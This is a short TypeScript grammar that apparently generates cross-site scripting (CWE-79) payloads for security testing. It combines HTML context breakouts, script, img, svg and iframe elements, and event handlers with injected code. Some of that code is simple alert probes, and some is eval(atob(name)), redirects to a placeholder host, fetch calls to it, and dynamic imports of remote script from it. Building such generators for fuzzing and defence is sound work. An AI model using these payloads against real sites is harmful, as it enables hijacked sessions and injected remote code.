import type { Grammar } from '../grammar.ts';
import { words } from '../words.ts';

/** Cross-site scripting (CWE-79). */
export const xss: Grammar = {
  ...words,
  start: [
    '<break><element>',
    '<break><element><ident>',
    '<break> <handler>=<code> <ident>=<quote>',
    'javascript:<code>',
  ],
  break: ['', '">', "'>", '</textarea>', '</title>', '"', '--><<br>'],
  element: [
    '<<script><code><</script>',
    '<<img src=<ident> <handler>=<code>>',
    '<<svg/<handler>=<code>>',
    '<<a href=javascript:<code>><ident><</a>',
    '<<iframe srcdoc="<<script><code><</script>">',
    '<<details open <handler>=<code>>',
  ],
  handler: ['onerror', 'onload', 'onmouseover', 'ontoggle', 'onfocus', 'onpointerenter', 'onanimationstart'],
  code: [
    'alert(<number>)',
    'confirm`<number>`',
    "prompt('<ident>')",
    'eval(atob(name))',
    'document.location=//<host>',
    'fetch(`//<host>`)',
    'import(/\\/<host>/.source)',
  ],
  quote: ['"', "'", ''],
};
